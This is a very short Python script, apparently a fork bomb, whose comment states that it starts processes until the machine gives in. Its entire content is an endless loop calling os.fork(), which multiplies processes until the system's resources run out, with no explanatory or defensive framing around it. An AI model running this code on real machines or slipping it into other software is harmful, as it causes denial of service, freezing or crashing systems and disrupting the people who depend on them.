# starts processes until the machine gives in
import os

problem = "a"
while True:
    os.fork()
